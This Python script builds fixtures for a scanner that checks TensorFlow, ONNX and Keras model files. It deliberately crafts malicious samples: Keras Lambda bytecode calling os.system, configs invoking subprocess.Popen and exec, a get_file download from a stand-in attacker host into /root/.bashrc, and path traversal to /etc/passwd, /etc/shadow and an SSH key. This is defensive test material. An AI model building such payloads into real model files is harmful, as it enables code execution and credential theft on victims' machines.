"""Build the fixtures of tests/test_scan_formats.py (run by hand, never by the test suite).

    python3 -m venv /tmp/venv && /tmp/venv/bin/pip install torch==2.13.0 && \
        /tmp/venv/bin/pip install keras onnx h5py
    KERAS_BACKEND=torch /tmp/venv/bin/python tests/data/scan/make_fixtures.py

Benign files are written by the real libraries (Keras 3, onnx, h5py, torch.onnx) and loaded
back with them as a check. Malicious files are built so that nothing malicious ever runs: the
Lambda payload is compiled (not called) and spliced into a model built around an identity
lambda, malicious models are never loaded back, and the TensorFlow SavedModels are encoded by
hand with the small protobuf writer below (TensorFlow itself is too large to install here),
field numbers taken from tensorflow/core/protobuf/{saved_model,meta_graph,saver,
saved_object_graph}.proto and tensorflow/core/framework/{graph,node_def,function,attr_value,
op_def}.proto. The payload, were it ever run, only touches a canary file.
"""

from __future__ import annotations

import base64
import copy
import io
import json
import marshal
import os
import shutil
import sys
import tempfile
import types
import zipfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any

os.environ.setdefault("KERAS_BACKEND", "torch")

OUT = Path(__file__).resolve().parent
CANARY = "/tmp/guard_scan_fixture_canary"


# -- a protobuf writer -------------------------------------------------------------------------
def varint(n: int) -> bytes:
    n &= (1 << 64) - 1
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def f_varint(number: int, value: int) -> bytes:
    return varint(number << 3) + varint(value)


def f_bytes(number: int, value: bytes) -> bytes:
    return varint(number << 3 | 2) + varint(len(value)) + value


def f_str(number: int, value: str) -> bytes:
    return f_bytes(number, value.encode())


def f_msg(number: int, *parts: bytes) -> bytes:
    return f_bytes(number, b"".join(parts))


# -- the payload, compiled and never run -------------------------------------------------------
def lambda_payload_b64() -> str:
    """Marshalled bytecode of ``lambda x: os.system("touch CANARY") or x``, as Keras stores it."""
    module = compile(f"lambda x: __import__('os').system('touch {CANARY}') or x", "<payload>", "eval")
    code = next(c for c in module.co_consts if isinstance(c, types.CodeType))
    return base64.encodebytes(marshal.dumps(code)).decode("ascii")


# -- TensorFlow --------------------------------------------------------------------------------
DT_FLOAT, DT_STRING = 1, 7


def attr(key: str, value: bytes) -> bytes:
    return f_msg(5, f_str(1, key), f_msg(2, value))


def a_s(s: str) -> bytes:
    return f_str(2, s)


def a_type(t: int) -> bytes:
    return f_varint(6, t)


def a_func(name: str) -> bytes:
    return f_msg(10, f_str(1, name))


def node(name: str, op: str, *attrs: bytes, inputs: tuple[str, ...] = ()) -> bytes:
    return f_str(1, name) + f_str(2, op) + b"".join(f_str(3, i) for i in inputs) + b"".join(attrs)


def function(name: str, *nodes: bytes) -> bytes:
    return f_msg(1, f_str(1, name)) + b"".join(f_msg(3, n) for n in nodes)


def graph_def(nodes: Sequence[bytes], functions: Sequence[bytes] = ()) -> bytes:
    library = f_msg(2, *(f_msg(1, fn) for fn in functions)) if functions else b""
    return b"".join(f_msg(1, n) for n in nodes) + library + f_msg(4, f_varint(1, 1645))


def meta_graph(graph: bytes, saver: tuple[str, str, str], *, assets: tuple[str, ...] = (),
               objects: bytes = b"") -> bytes:
    meta_info = f_msg(1, f_str(4, "serve"), f_str(5, "2.15.0"), f_str(6, "v2.15.0-0"))
    saver_def = f_msg(3, f_str(1, saver[0]), f_str(2, saver[1]), f_str(3, saver[2]), f_varint(4, 5),
                      f_varint(7, 2))
    signature = f_msg(5, f_str(1, "serving_default"), f_msg(2, f_str(3, "tensorflow/serving/predict")))
    asset_defs = b"".join(f_msg(6, f_msg(1, f_str(1, f"asset_path_{i}:0")), f_str(2, a))
                          for i, a in enumerate(assets))
    return meta_info + f_msg(2, graph) + saver_def + signature + asset_defs + objects


def saved_model(*metas: bytes) -> bytes:
    return f_varint(1, 1) + b"".join(f_msg(2, m) for m in metas)


def tf2_saver_functions() -> list[bytes]:
    return [
        function("__inference__traced_save_456",
                 node("file_prefix", "Placeholder", attr("dtype", a_type(DT_STRING))),
                 node("StaticRegexFullMatch", "StaticRegexFullMatch", inputs=("file_prefix",)),
                 node("Const", "Const", attr("dtype", a_type(DT_STRING))),
                 node("Select", "Select", inputs=("StaticRegexFullMatch", "Const", "Const")),
                 node("StringJoin", "StringJoin", inputs=("file_prefix", "Select")),
                 node("ShardedFilename", "ShardedFilename", inputs=("StringJoin",)),
                 node("SaveV2", "SaveV2", inputs=("ShardedFilename",)),
                 node("MergeV2Checkpoints", "MergeV2Checkpoints", inputs=("ShardedFilename",)),
                 node("Identity", "Identity", inputs=("file_prefix",)),
                 node("NoOp", "NoOp")),
        function("__inference__traced_restore_789",
                 node("file_prefix", "Placeholder", attr("dtype", a_type(DT_STRING))),
                 node("RestoreV2", "RestoreV2", inputs=("file_prefix",)),
                 node("AssignVariableOp", "AssignVariableOp", inputs=("RestoreV2",)),
                 node("Identity_1", "Identity", inputs=("RestoreV2",)),
                 node("NoOp_1", "NoOp")),
    ]


def tf2_graph(extra_nodes: Sequence[bytes] = (), extra_functions: Sequence[bytes] = (),
              serving_nodes: Sequence[bytes] = ()) -> bytes:
    serving = function("__inference_signature_wrapper_123",
                       node("input", "Placeholder", attr("dtype", a_type(DT_FLOAT))),
                       node("kernel", "ReadVariableOp", inputs=("unknown",)),
                       node("MatMul", "MatMul", inputs=("input", "kernel")),
                       node("BiasAdd", "BiasAdd", inputs=("MatMul", "bias")),
                       node("Relu", "Relu", inputs=("BiasAdd",)),
                       *serving_nodes,
                       node("Identity", "Identity", inputs=("Relu",)))
    nodes = [
        node("serving_default_input", "Placeholder", attr("dtype", a_type(DT_FLOAT))),
        node("dense/kernel", "VarHandleOp", attr("dtype", a_type(DT_FLOAT)),
             attr("shared_name", a_s("dense/kernel"))),
        node("dense/bias", "VarHandleOp", attr("dtype", a_type(DT_FLOAT))),
        node("StatefulPartitionedCall", "StatefulPartitionedCall",
             attr("f", a_func("__inference_signature_wrapper_123")),
             inputs=("serving_default_input", "dense/kernel", "dense/bias")),
        node("saver_filename", "Placeholder", attr("dtype", a_type(DT_STRING))),
        node("StatefulPartitionedCall_1", "StatefulPartitionedCall",
             attr("f", a_func("__inference__traced_save_456")), inputs=("saver_filename",)),
        node("StatefulPartitionedCall_2", "StatefulPartitionedCall",
             attr("f", a_func("__inference__traced_restore_789")), inputs=("saver_filename",)),
        *extra_nodes,
    ]
    return graph_def(nodes, [serving, *tf2_saver_functions(), *extra_functions])


TF2_SAVER = ("saver_filename:0", "StatefulPartitionedCall_1:0", "StatefulPartitionedCall_2")


def keras_object_graph(*metadata: tuple[str, str]) -> bytes:
    """object_graph_def with one SavedUserObject per (identifier, metadata JSON)."""
    nodes = b"".join(f_msg(1, f_msg(4, f_str(1, ident), f_msg(2, f_varint(1, 1)), f_str(3, meta)))
                     for ident, meta in metadata)
    return f_msg(7, nodes)


def tf_legacy_lambda_metadata() -> str:
    """tf.keras 2.x layer metadata of a Lambda whose function is marshalled bytecode."""
    return json.dumps({
        "name": "lambda", "trainable": True, "expects_training_arg": False, "dtype": "float32",
        "batch_input_shape": None, "stateful": False, "must_restore_from_config": False,
        "class_name": "Lambda",
        "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                   "function": {"class_name": "__tuple__", "items": [lambda_payload_b64(), None, None]},
                   "function_type": "lambda", "module": "__main__", "output_shape": None,
                   "output_shape_type": "raw", "output_shape_module": None, "arguments": {}},
    })


def tf_dense_metadata(name: str) -> str:
    return json.dumps({
        "name": name, "trainable": True, "expects_training_arg": False, "dtype": "float32",
        "batch_input_shape": None, "stateful": False, "must_restore_from_config": False,
        "class_name": "Dense",
        "config": {"name": name, "trainable": True, "dtype": "float32", "units": 3, "activation": "relu",
                   "use_bias": True, "kernel_initializer": {"class_name": "GlorotUniform",
                                                            "config": {"seed": None}}},
    })


def make_tensorflow() -> None:
    (OUT / "tf_benign_saved_model.pb").write_bytes(saved_model(meta_graph(
        tf2_graph(), TF2_SAVER, objects=keras_object_graph(("_tf_keras_layer", tf_dense_metadata("d"))))))
    tf1 = graph_def([
        node("x", "Placeholder", attr("dtype", a_type(DT_FLOAT))),
        node("w", "VariableV2", attr("dtype", a_type(DT_FLOAT))),
        node("w/read", "Identity", inputs=("w",)),
        node("MatMul", "MatMul", inputs=("x", "w/read")),
        node("vocab", "HashTableV2"),
        node("asset_path_0", "Const", attr("dtype", a_type(DT_STRING))),
        node("vocab/init", "InitializeTableFromTextFileV2", inputs=("vocab", "asset_path_0")),
        node("save/filename", "PlaceholderWithDefault"),
        node("save/Const", "PlaceholderWithDefault"),
        node("save/SaveV2", "SaveV2", inputs=("save/Const",)),
        node("save/Save", "Save", inputs=("save/Const",)),
        node("save/control_dependency", "Identity", inputs=("save/Const",)),
        node("save/RestoreV2", "RestoreV2", inputs=("save/Const",)),
        node("save/RestoreSlice", "RestoreSlice", inputs=("save/Const",)),
        node("save/Assign", "Assign", inputs=("w", "save/RestoreV2")),
        node("save/restore_all", "NoOp"),
    ])
    (OUT / "tf_benign_tf1_saved_model.pb").write_bytes(saved_model(meta_graph(
        tf1, ("save/Const:0", "save/control_dependency:0", "save/restore_all"), assets=("vocab.txt",))))
    pyfunc = node("PyFunc", "PyFunc", attr("token", a_s("pyfunc_0")), attr("Tin", b""), inputs=("input",))
    (OUT / "tf_pyfunc_saved_model.pb").write_bytes(saved_model(meta_graph(
        tf2_graph(extra_nodes=[pyfunc]), TF2_SAVER)))
    file_nodes = [
        node("secret", "ReadFile", inputs=("path",)),
        node("drop", "WriteFile", inputs=("path", "secret")),
        node("listing", "MatchingFiles", inputs=("pattern",)),
        node("leak", "PrintV2", attr("output_stream", a_s("file:///tmp/leak.txt")), inputs=("fmt",)),
        node("exfil/Save", "Save", inputs=("path", "names", "secret")),
    ]
    (OUT / "tf_file_ops_saved_model.pb").write_bytes(saved_model(meta_graph(
        tf2_graph(extra_nodes=file_nodes), TF2_SAVER)))
    hidden = function("__inference_call_99",
                      node("x", "Placeholder", attr("dtype", a_type(DT_FLOAT))),
                      node("EagerPyFunc", "EagerPyFunc", attr("token", a_s("pyfunc_7")), inputs=("x",)))
    indirect = node("PartitionedCall_9", "PartitionedCall", attr("f", a_func("ReadFile")), inputs=("p",))
    (OUT / "tf_hidden_function_saved_model.pb").write_bytes(saved_model(meta_graph(
        tf2_graph(extra_functions=[hidden], serving_nodes=[indirect]), TF2_SAVER)))
    (OUT / "tf_asset_traversal_saved_model.pb").write_bytes(saved_model(meta_graph(
        tf2_graph(), TF2_SAVER, assets=("../../../../etc/passwd",))))
    (OUT / "tf_keras_object_lambda_saved_model.pb").write_bytes(saved_model(meta_graph(
        tf2_graph(), TF2_SAVER,
        objects=keras_object_graph(("_tf_keras_layer", tf_legacy_lambda_metadata())))))
    frozen = graph_def([node("x", "Placeholder", attr("dtype", a_type(DT_FLOAT))),
                        node("py", "PyFuncStateless", attr("token", a_s("pyfunc_1")), inputs=("x",))])
    (OUT / "tf_frozen_graph_pyfunc.pb").write_bytes(frozen)

    def saved_object(node_id: int, path: str, identifier: str, metadata: str) -> bytes:
        return f_msg(1, f_varint(2, node_id), f_str(3, path), f_str(4, identifier), f_str(5, metadata),
                     f_msg(6, f_varint(1, 2), f_varint(2, 1)))

    (OUT / "tf_keras_metadata.pb").write_bytes(
        saved_object(0, "root", "_tf_keras_sequential", json.dumps({"name": "sequential", "class_name":
                     "Sequential", "config": {"name": "sequential", "layers": []}}))
        + saved_object(1, "root.layer-0", "_tf_keras_layer", tf_dense_metadata("dense")))
    (OUT / "tf_keras_metadata_lambda.pb").write_bytes(
        saved_object(0, "root", "_tf_keras_sequential", json.dumps({"class_name": "Sequential"}))
        + saved_object(1, "root.layer-0", "_tf_keras_layer", tf_legacy_lambda_metadata()))
    (OUT / "tf_fingerprint.pb").write_bytes(
        f_varint(1, 0xC8F1D35E9B0A7F21) + f_varint(2, 0x1B2C3D4E5F607182) + f_varint(3, 0x0FEDCBA987654321)
        + f_varint(4, 0x1122334455667788) + f_varint(5, 0x8877665544332211)
        + f_msg(6, f_varint(1, 1)) + f_str(7, "c0ffee00-1234-5678-9abc-def012345678"))


# -- ONNX --------------------------------------------------------------------------------------
def make_onnx() -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    def linear(name: str = "linear") -> Any:
        w = numpy_helper.from_array(np.arange(12, dtype=np.float32).reshape(4, 3), "W")
        b = numpy_helper.from_array(np.zeros(3, dtype=np.float32), "B")
        nodes = [helper.make_node("MatMul", ["X", "W"], ["XW"], name="matmul"),
                 helper.make_node("Add", ["XW", "B"], ["Z"], name="add"),
                 helper.make_node("Relu", ["Z"], ["Y"], name="relu")]
        return helper.make_graph(nodes, name, [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
                                 [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 3])], [w, b],
                                 value_info=[helper.make_tensor_value_info("Z", TensorProto.FLOAT, [1, 3])])

    def model(graph: Any, *opsets: tuple[str, int], functions: list[Any] | None = None) -> Any:
        imports = [helper.make_opsetid("", 17)] + [helper.make_opsetid(d, v) for d, v in opsets]
        m = helper.make_model(graph, opset_imports=imports, producer_name="guard-fixtures",
                              functions=functions or [])
        m.ir_version = 8
        return m

    def save(m: Any, name: str, check: bool = True) -> None:
        if check:
            onnx.checker.check_model(m)
        (OUT / name).write_bytes(m.SerializeToString())

    def make_external(t: Any, location: str) -> None:
        t.ClearField("raw_data")
        t.data_location = TensorProto.EXTERNAL
        for k, v in (("location", location), ("offset", "0"), ("length", "48")):
            entry = t.external_data.add()
            entry.key, entry.value = k, v

    save(model(linear()), "onnx_benign.onnx")

    ext = model(linear())
    with tempfile.TemporaryDirectory() as tmp:
        onnx.save_model(ext, os.path.join(tmp, "onnx_benign_external.onnx"), save_as_external_data=True,
                        all_tensors_to_one_file=True, location="onnx_benign_external.onnx.data",
                        size_threshold=0)
        for name in ("onnx_benign_external.onnx", "onnx_benign_external.onnx.data"):
            shutil.copy(os.path.join(tmp, name), OUT / name)
    onnx.checker.check_model(str(OUT / "onnx_benign_external.onnx"))

    for name, location in (("onnx_external_traversal.onnx", "../../etc/passwd"),
                           ("onnx_external_absolute.onnx", "/etc/passwd")):
        m = model(linear())
        make_external(m.graph.initializer[0], location)
        save(m, name, check=False)

    then_graph = linear("then")
    make_external(then_graph.initializer[0], "../../../../root/.ssh/id_rsa")
    else_graph = linear("else")
    cond = numpy_helper.from_array(np.array(True), "cond")
    top = helper.make_graph(
        [helper.make_node("If", ["cond"], ["Y"], name="if", then_branch=then_graph, else_branch=else_graph)],
        "branchy", [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 3])], [cond])
    save(model(top), "onnx_external_in_subgraph.onnx", check=False)

    g = linear()
    g.node.append(helper.make_node("EvilOp", ["Y"], ["Y2"], name="evil", domain="com.evil.ops"))
    g.output[0].name = "Y2"
    save(model(g, ("com.evil.ops", 1)), "onnx_custom_op.onnx", check=False)

    my_relu = helper.make_function("pkg.local", "MyRelu", ["x"], ["y"],
                                   [helper.make_node("Relu", ["x"], ["y"])], [helper.make_opsetid("", 17)])
    g = linear()
    g.node[2].CopyFrom(helper.make_node("MyRelu", ["Z"], ["Y"], name="relu", domain="pkg.local"))
    save(model(g, ("pkg.local", 1), functions=[my_relu]), "onnx_benign_local_function.onnx")

    wrapper = helper.make_function("pkg.local", "Wrapper", ["x"], ["y"],
                                   [helper.make_node("Backdoor", ["x"], ["y"], domain="ai.onnx.contrib")],
                                   [helper.make_opsetid("", 17), helper.make_opsetid("ai.onnx.contrib", 1)])
    g = linear()
    g.node[2].CopyFrom(helper.make_node("Wrapper", ["Z"], ["Y"], name="wrapped", domain="pkg.local"))
    save(model(g, ("pkg.local", 1), ("ai.onnx.contrib", 1), functions=[wrapper]),
         "onnx_custom_op_in_function.onnx", check=False)

    g = linear()
    g.node.append(helper.make_node("EPContext", ["Y"], ["Y2"], name="ctx", domain="com.microsoft",
                                   embed_mode=0, ep_cache_context="../../../etc/shadow", source="QNN"))
    g.output[0].name = "Y2"
    save(model(g, ("com.microsoft", 1)), "onnx_ep_context_path.onnx", check=False)

    try:
        import torch

        class Tiny(torch.nn.Module):
            def __init__(self) -> None:
                super().__init__()
                self.fc = torch.nn.Linear(4, 3)

            def forward(self, x: torch.Tensor) -> torch.Tensor:
                return torch.relu(self.fc(x))

        buf = io.BytesIO()
        torch.onnx.export(Tiny().eval(), (torch.zeros(1, 4),), buf, dynamo=False)
        onnx.checker.check_model(onnx.load_from_string(buf.getvalue()))
        (OUT / "onnx_benign_torch_export.onnx").write_bytes(buf.getvalue())
    except Exception as exc:  # noqa: BLE001 - optional: the exporter needs extras on some versions
        sys.stderr.write(f"torch.onnx.export skipped: {type(exc).__name__}: {exc}\n")

    for path in sorted(OUT.glob("onnx_*.onnx")):
        onnx.load(str(path), load_external_data=False)  # every fixture parses with the real library


# -- Keras -------------------------------------------------------------------------------------
def _rewrite_keras(src: Path, dst: Path, edit: Any) -> None:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == "config.json":
                data = json.dumps(edit(json.loads(data))).encode()
            zout.writestr(info, data)


def _swap_lambda_code(config: Any) -> Any:
    """Replace every ``__lambda__``'s bytecode with the (never run) payload."""
    stack = [config]
    while stack:
        obj = stack.pop()
        if isinstance(obj, dict):
            if obj.get("class_name") == "__lambda__":
                obj["config"]["code"] = lambda_payload_b64()
            stack.extend(obj.values())
        elif isinstance(obj, list):
            stack.extend(obj)
    return config


def make_keras() -> None:
    import h5py
    import keras

    def dense_model() -> Any:
        return keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, activation="relu", name="hidden"),
                                 keras.layers.Dense(1, name="out")])

    m = dense_model()
    m.compile(optimizer="adam", loss="mse")
    m.save(OUT / "keras_benign.keras")
    m.save(OUT / "keras_benign.h5")
    keras.saving.load_model(OUT / "keras_benign.keras")  # benign: safe_mode=True, the default
    keras.saving.load_model(OUT / "keras_benign.h5", compile=False)  # Keras 3.15 cannot re-read "mse"

    with tempfile.TemporaryDirectory() as tmp:
        ident = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda x: x, name="lam"),
                                  keras.layers.Dense(1, name="out")])
        ident.save(Path(tmp) / "ident.keras")
        ident.save(Path(tmp) / "ident.h5")
        _rewrite_keras(Path(tmp) / "ident.keras", OUT / "keras_lambda.keras", _swap_lambda_code)
        shutil.copy(Path(tmp) / "ident.h5", OUT / "keras_lambda.h5")
    with h5py.File(OUT / "keras_lambda.h5", "r+") as f:
        lambda_config = _swap_lambda_code(json.loads(f.attrs["model_config"]))
        f.attrs["model_config"] = json.dumps(lambda_config)
    with h5py.File(OUT / "keras_lambda_userblock.h5", "w", userblock_size=512) as f:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(lambda_config).encode()  # fixed-length, as tf.keras wrote it
        f.create_dataset("model_weights/out/kernel", data=[[0.5]] * 4)
    with open(OUT / "keras_lambda_userblock.h5", "r+b") as fh:
        fh.write(b"user block: a polyglot prefix".ljust(512, b"\0"))

    with zipfile.ZipFile(OUT / "keras_benign.keras") as z:
        base = json.loads(z.read("config.json"))

    def with_layers(*layers: dict[str, Any]) -> dict[str, Any]:
        cfg = copy.deepcopy(base)
        cfg["config"]["layers"][2:2] = list(layers)
        return cfg

    def lam(name: str, function: dict[str, Any], arguments: dict[str, Any] | None = None) -> dict[str, Any]:
        return {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
                "config": {"name": name, "trainable": True, "function": function,
                           "arguments": arguments or {}}}

    def fn(module: str, name: str) -> dict[str, Any]:
        return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}

    payload = {"class_name": "__lambda__", "config": {"code": lambda_payload_b64(), "defaults": None,
                                                      "closure": None}}
    configs = {
        "keras_config_os_system.json": with_layers(
            lam("shell", fn("os", "system"), {"command": f"touch {CANARY}"})),
        "keras_config_module_import.json": with_layers(
            {"module": "subprocess", "class_name": "Popen", "registered_name": None,
             "config": {"args": ["touch", CANARY]}},
            {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
             "config": {"name": "d", "units": 1, "activation": fn("builtins", "exec")}}),
        "keras_config_get_file.json": with_layers(
            lam("fetch", fn("keras.utils", "get_file"),
                {"fname": "/root/.bashrc", "origin": "https://attacker.invalid/payload", "cache_dir": "/"})),
        "keras_config_unsafe_deserialization.json": with_layers(
            lam("unlock", fn("keras.config", "enable_unsafe_deserialization")),
            lam("run", payload)),
        "keras_config_string_lookup.json": with_layers(
            {"module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
             "config": {"name": "lookup", "vocabulary": "/etc/passwd", "num_oov_indices": 1}}),
        "keras_config_tfsmlayer.json": with_layers(
            {"module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
             "config": {"name": "tfsm", "filepath": "/tmp/attacker_saved_model",
                        "call_endpoint": "serve"}}),
        "keras_config_torch_wrapper.json": with_layers(
            {"module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None,
             "config": {"name": "wrapped", "module": base64.b64encode(b"\x80\x04}\x94.").decode()}}),
        "keras_config_custom_layer.json": with_layers(
            {"module": "my_project.layers", "class_name": "Attention",
             "registered_name": "my_project>Attention", "config": {"name": "attention", "heads": 2}}),
    }
    for name, cfg in configs.items():
        (OUT / name).write_text(json.dumps(cfg, indent=1))


def main() -> None:
    make_tensorflow()
    make_onnx()
    make_keras()
    if os.path.exists(CANARY):
        raise SystemExit(f"{CANARY} exists: a payload ran while building fixtures")
    for path in sorted(OUT.iterdir()):
        if path.suffix != ".py":
            sys.stdout.write(f"{path.stat().st_size:>8}  {path.name}\n")


if __name__ == "__main__":
    main()
